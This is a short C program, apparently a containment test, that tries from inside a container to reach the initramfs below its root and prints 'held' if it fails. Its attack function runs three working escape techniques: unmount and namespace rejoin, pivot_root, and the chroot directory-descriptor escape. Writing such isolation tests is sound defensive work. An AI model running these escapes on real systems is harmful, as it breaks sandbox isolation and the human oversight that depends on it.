/* In a container: tries to reach the initramfs below its root, which has a file /script. Prints `held` if it cannot. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int is_outside(void) {
    return access("/script", F_OK) == 0;
}

/* setns(2) to a mount namespace sets root and working directory to those of the namespace. */
static void join_again(void) {
    int self = syscall(SYS_pidfd_open, getpid(), 0);
    if (self < 0 || setns(self, CLONE_NEWNS))
        setns(open("/proc/self/ns/mnt", O_RDONLY), CLONE_NEWNS);
}

static int attack(void) {
    if (is_outside())
        return 1;
    umount2("/", MNT_DETACH);
    join_again();
    if (is_outside())
        return 2;
    /* Move the root away, or mount over it. */
    mkdir("/tmp/t", 0755);
    mount("/", "/tmp/t", NULL, MS_MOVE, NULL);
    mount("t", "/tmp", "tmpfs", 0, NULL);
    mkdir("/tmp/old", 0755);
    if (!syscall(SYS_pivot_root, "/tmp", "/tmp/old")) {
        chdir("/");
        umount2("/old", MNT_DETACH);
        umount2("/", MNT_DETACH);
        join_again();
    }
    if (is_outside())
        return 3;
    /* Escape by a working directory outside the root. */
    int here = open(".", O_PATH | O_DIRECTORY);
    mkdir("sub", 0755);
    if (!chroot("sub") && !fchdir(here)) {
        for (int i = 0; i < 64; i++)
            chdir("..");
        chroot(".");
        umount2(".", MNT_DETACH);
    }
    return is_outside() ? 4 : 0;
}

int main(void) {
    int way = attack();
    if (way)
        printf("out, by way %d\n", way);
    else
        puts("held");
    return way;
}
